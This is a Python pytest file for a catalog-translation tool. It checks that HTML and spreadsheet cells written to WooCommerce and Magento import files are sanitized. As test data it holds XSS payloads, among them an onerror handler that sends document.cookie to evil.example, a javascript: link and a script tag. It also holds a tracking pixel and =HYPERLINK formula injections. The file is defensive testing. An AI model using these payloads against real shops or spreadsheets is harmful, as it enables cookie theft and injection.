"""What reaches a shop's import file cannot attack the shop: script-bearing HTML from a model (a
prompt-injected supplier text, a compromised relay) or a hand edit never reaches a storefront
field, images and links the source does not have are dropped, and no cell runs as a formula in
the spreadsheet a merchant opens the file in."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from conftest import write
from fake_relay import Answer, FakeRelay, listing_for

from localize.checking.sanitize import clean_html, drop_foreign_media, safe_cell, unsafe_markup
from localize.output.store import iter_jsonl

WOO = Path(__file__).resolve().parent.parent / "examples" / "woocommerce_products_export.csv"
ATTACKS = (
    "<p>Warm.<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\"></p>",
    '<p>Warm. <a href="javascript:alert(document.domain)">Details</a></p>',
    '<p style="position:fixed;top:0">Warm.</p>',
    "<p>Warm.</p><script>steal()</script>",
)


@pytest.fixture(autouse=True)
def fast_settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOLYSHEEP_API_KEY", "sk-safe-test")
    write(
        tmp_path / "localize.yaml", "rpm: 60000\nbackoff_s: 0.001\nconcurrency: 1\nmagento_store_views: {de-DE: de}\n"
    )


def run(run_cli, relay: FakeRelay, catalog: Path, *args: str):
    return run_cli(
        "run",
        catalog,
        "-l",
        "de-DE",
        "-p",
        "shopify",
        "--base-url",
        relay.base_url,
        "--out",
        "out",
        "--pack",
        "1",
        *args,
    )


def woo_rows() -> list[dict[str, str]]:
    text = Path("out/woocommerce/translations.csv").read_text(encoding="utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def listing_requests(relay: FakeRelay) -> list[dict]:
    """The requests for listings (an export's purchase notes and attributes are store strings, asked apart)."""
    return [body for body in relay.chat_requests if "<strings>" not in body["messages"][-1]["content"]]


def every_cell(path: Path) -> str:
    return path.read_text(encoding="utf-8").lower()


@pytest.mark.parametrize("attack", ATTACKS, ids=["onerror", "javascript", "style", "script"])
def test_script_bearing_html_from_the_model_is_asked_again_and_never_written(
    run_cli, relay: FakeRelay, attack: str
) -> None:
    german = listing_for("de")
    relay.enqueue(Answer(listing={**german, "description": attack, "seo_title": "Mütze", "seo_description": "Warm"}))
    result = run(run_cli, relay, WOO, "--format", "woocommerce,magento")
    assert result.exit_code == 0, result.stderr
    products = len(list(iter_jsonl(Path("out/results.jsonl"))))
    assert len(listing_requests(relay)) == products + 1  # the first answer refused, asked again
    refused = [
        r for r in iter_jsonl(Path("out/requests.jsonl")) if "no scripts, handlers or styles" in (r["message"] or "")
    ]
    assert len(refused) == 1 and refused[0]["error"] in ("unsafe_html", "html")
    for path in (Path("out/woocommerce/translations.csv"), Path("out/magento_products.csv")):
        text = every_cell(path)
        assert "onerror" not in text and "javascript:" not in text and "<script" not in text and "style=" not in text


def test_a_hand_edit_with_script_is_reduced_in_every_import_file(run_cli, relay: FakeRelay) -> None:
    assert run(run_cli, relay, WOO, "--format", "woocommerce,magento").exit_code == 0
    results = Path("out/results.jsonl")
    rows = [json.loads(line) for line in results.read_text(encoding="utf-8").splitlines()]
    rows[0]["description"] = ATTACKS[0] + ATTACKS[1] + ATTACKS[3]
    rows[0]["title"] = "Mütze <img src=x onerror=alert(1)>"
    write(results, "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows))
    again = run(run_cli, relay, WOO, "--format", "woocommerce,magento")
    assert again.exit_code == 0, again.stderr
    for path in (Path("out/woocommerce/translations.csv"), Path("out/magento_products.csv")):
        text = every_cell(path)
        assert "onerror" not in text and "javascript:" not in text and "<script" not in text
    edited = next(row for row in woo_rows() if row["Name"].startswith("Mütze"))
    assert edited["Name"] == "Mütze " and '<p>Warm.<img src="x"></p>' in edited["Description"]


def test_an_image_or_link_the_source_does_not_have_is_dropped_and_said(run_cli, relay: FakeRelay) -> None:
    german = listing_for("de")
    pixel = '<p>Warm. <img src="https://track.example/p.gif" width="1" height="1"> <a href="https://evil.example">Angebot</a></p>'
    relay.enqueue(Answer(listing={**german, "description": pixel, "seo_title": "Mütze", "seo_description": "Warm"}))
    write(Path("localize.yaml"), "rpm: 60000\nbackoff_s: 0.001\nconcurrency: 1\nfigures: warn\n")
    result = run(
        run_cli, relay, WOO, "--format", "woocommerce", "--max-reasks", "0"
    )  # the figures this answer lacks: a warning
    assert result.exit_code == 0, result.stderr
    rows = list(iter_jsonl(Path("out/results.jsonl")))
    assert len(listing_requests(relay)) == len(rows)  # repaired, not paid for again
    row = next(r for r in rows if any(w.startswith("media_dropped") for w in r["warnings"]))
    assert "track.example" not in row["description"] and "evil.example" not in row["description"]
    assert "Angebot" in row["description"]  # the link's text stays
    assert any(w.startswith("media_dropped: ") and "track.example" in w for w in row["warnings"])


def test_a_formula_from_the_model_is_asked_again_and_a_list_marker_is_removed(run_cli, relay: FakeRelay) -> None:
    german = listing_for("de")
    formula = {
        **german,
        "title": '=HYPERLINK("http://evil.example/x","Click")',
        "seo_title": "M",
        "seo_description": "W",
    }
    relay.enqueue(Answer(listing=formula))
    result = run(run_cli, relay, WOO, "--format", "woocommerce")
    assert result.exit_code == 0, result.stderr
    assert len(listing_requests(relay)) == len(list(iter_jsonl(Path("out/results.jsonl")))) + 1
    assert [r["error"] for r in iter_jsonl(Path("out/requests.jsonl"))][0] == "formula"
    marked = {
        **german,
        "bullets": [f"- {item}" for item in german["bullets"]],
        "seo_title": "M",
        "seo_description": "W",
    }
    relay.enqueue(Answer(listing=marked))
    write(Path("localize.yaml"), "rpm: 60000\nbackoff_s: 0.001\nconcurrency: 1\nfigures: warn\n")
    result = run(run_cli, relay, WOO, "--format", "woocommerce", "--force", "--max-reasks", "0")
    assert result.exit_code == 0, result.stderr
    row = next(
        r for r in iter_jsonl(Path("out/results.jsonl")) if any(w.startswith("list_markers") for w in r["warnings"])
    )
    assert row["bullets"] == german["bullets"]


def test_catalog_cells_that_start_like_a_formula_are_neutralised_in_every_csv(
    run_cli, relay: FakeRelay, tmp_path: Path
) -> None:
    catalog = write(
        tmp_path / "shop.csv",
        'id,sku,name,description\n=1+1,"=HYPERLINK(""http://evil.example"",""x"")",Warm hat,A warm hat.\n'
        "-7,@SUM(A1),Cap,A cap.\n",
    )
    result = run(run_cli, relay, catalog, "--format", "jsonl,csv,woocommerce,magento")
    assert result.exit_code == 0, result.stderr
    sources = list(csv.DictReader(io.StringIO(Path("out/woocommerce/sources.csv").read_text(encoding="utf-8"))))
    # The SKU a shop matches its product by is written as it is (an apostrophe names another
    # product), and said; every other cell is neutralised.
    assert {row["SKU"] for row in sources} == {'=HYPERLINK("http://evil.example","x")', "@SUM(A1)"}
    assert "start like a spreadsheet formula and are written as they are" in result.stderr
    assert {row["Meta: _wpml_import_translation_group"] for row in sources} == {"localize-=1+1", "localize--7"}
    assert all(row["ID"] == "" and row["SKU"] == "" for row in woo_rows())  # translations are new products
    magento = list(csv.DictReader(io.StringIO(Path("out/magento_products.csv").read_text(encoding="utf-8"))))
    assert {row["sku"] for row in magento} == {row["SKU"] for row in sources}
    results_csv = list(csv.DictReader(io.StringIO(Path("out/results.csv").read_text(encoding="utf-8"))))
    assert {row["sku"] for row in results_csv} == {"'" + row["SKU"] for row in sources}  # a spreadsheet's file


def test_the_sanitiser_keeps_what_a_storefront_renders() -> None:
    kept = '<p>Warm <strong>wool</strong>.</p><ul><li>26 cm</li></ul><a href="https://shop.example/x">x</a>'
    assert clean_html(kept) == kept
    assert clean_html("Salt & Pepper") == "Salt & Pepper"  # text without markup is not turned into entities
    assert unsafe_markup(kept) == [] and unsafe_markup("<a href=' JAVASCRIPT:x'>y</a>") == [
        "a javascript: URL in <a href>"
    ]
    text, dropped = drop_foreign_media('<img src="https://a/1.png"><img src="https://b/2.png">', {"https://a/1.png"})
    assert text == '<img src="https://a/1.png">' and dropped == ["https://b/2.png"]
    assert [safe_cell(v) for v in ("=1", "+x", "-x", "@x", "-12.5", "+49", "x", None)] == [
        "'=1",
        "'+x",
        "'-x",
        "'@x",
        "-12.5",
        "+49",
        "x",
        "",
    ]
